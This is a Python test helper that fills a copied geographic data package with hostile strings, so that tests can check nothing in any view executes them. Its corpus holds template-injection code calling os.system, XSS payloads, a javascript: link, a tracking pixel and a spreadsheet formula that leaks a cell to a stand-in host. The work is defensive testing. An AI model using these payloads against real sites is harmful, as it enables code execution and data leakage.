"""A corpus of hostile and odd text, and a scratch data package with it in every text field.

Each value must reach every view as the literal text, and nothing in it may
run: not on the server (template syntax), not in the browser (HTML, script,
Markdown links and images, ``javascript:`` addresses), not in a spreadsheet
(formulas). The server-side template payload tries to create a file; the
browser payloads try to set ``window.hikmapPwned`` or to fetch from
``tracker.invalid`` (a reserved name that never resolves); tests check that
none of that happened.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
# Reference data of the code (ONS and mySociety names and codes), not evidence: left as it is.
REFERENCE_TABLES = {"districts", "authorities", "authority_names"}


def corpus(marker_file: Path) -> list[str]:
    """The hostile values. ``marker_file`` is what the server-side payload tries to create."""
    return [
        "{{ 7*7 }} Fictional Template Hall",
        "{% if true %}YES{% endif %} Fictional Block",
        "{# hidden #} Fictional Comment",
        "{{ cycler.__init__.__globals__.os.system('touch " + str(marker_file) + "') }}",
        "<script>window.hikmapPwned=1</script> Fictional Script",
        '<img src=x onerror="window.hikmapPwned=2"> Fictional Image',
        '"><svg onload=window.hikmapPwned=3> Fictional Quote',
        "[click for evidence](javascript:window.hikmapPwned=4)",
        "![pixel](https://tracker.invalid/pixel.png) Fictional Pixel",
        "<a href=\"data:text/html,<script>parent.hikmapPwned=5</script>\">Fictional data link</a>",
        "=HYPERLINK(\"https://tracker.invalid/?leak=\"&A1,\"Evidence\")",
        "+1+1 Fictional Sum",
        "$x^2$ and :material/warning: and ~~struck~~ Fictional Markup",
        "Fictional \u202eevil\u202c right-to-left and zero\u200bwidth",
        "# Fictional Heading &amp; &lt;b&gt;entity&lt;/b&gt;",
        # Bare addresses, which Markdown renderers link even when every character is escaped.
        "Fictional https://evil.example/login and www.evil.example and someone@evil.example",
    ]


def overlong(limit: int) -> str:
    """Text exactly as long as a field allows, with no space to break it."""
    return ("Fictional" + "W" * limit)[:limit]


def free_text_fields(descriptor: dict, resource: str) -> list[dict]:
    """Fields of ``resource`` that hold free text: strings with no enum, pattern or format."""
    for res in descriptor["resources"]:
        if res["name"] == resource:
            return [f for f in res["schema"]["fields"]
                    if f.get("type", "string") == "string" and not f.get("format")
                    and not {"enum", "pattern"} & set(f.get("constraints", {}))]
    raise KeyError(resource)


def hostile_package(folder: Path, marker_file: Path) -> tuple[Path, list[str]]:
    """A copy of data/ under ``folder`` whose every free-text value is hostile, rebuilt.

    Rows keep their ids, links, postcodes and addresses, so the package still
    passes the check; every free-text field of every row gets a corpus value
    (or, every fifth row, text as long as the field allows). A change-log
    entry made of corpus values is added on top. Returns the folder and the
    corpus.
    """
    values = corpus(marker_file)
    data = folder / "data"
    shutil.copytree(ROOT / "data", data, ignore=shutil.ignore_patterns("backups", "build"))
    descriptor = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    turn = 0
    for resource in descriptor["resources"]:
        path = data / resource["path"]
        if not path.is_file() or resource["name"] in REFERENCE_TABLES:
            continue
        fields = free_text_fields(descriptor, resource["name"])
        with path.open(encoding="utf-8", newline="") as handle:
            reader = csv.DictReader(handle)
            header, rows = reader.fieldnames, list(reader)
        for number, row in enumerate(rows):
            for spec in fields:
                limit = spec.get("constraints", {}).get("maxLength", 300)
                row[spec["name"]] = overlong(limit) if number % 5 == 4 else values[turn % len(values)][:limit]
                turn += 1
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=header, lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    changelog = data / "CHANGELOG.md"
    entry = "## 2099-01-01 — 9.9.9\n\n" + "".join(f"- {value}\n" for value in values) + "\n"
    text = changelog.read_text(encoding="utf-8")
    first = re.search(r"^## ", text, re.MULTILINE).start()
    changelog.write_text(text[:first] + entry + text[first:], encoding="utf-8")
    subprocess.run([sys.executable, "-m", "geo", "build", str(data), "--output", str(data / "build" / "sites.geojson")],
                   cwd=ROOT, check=True, capture_output=True)
    return data, values
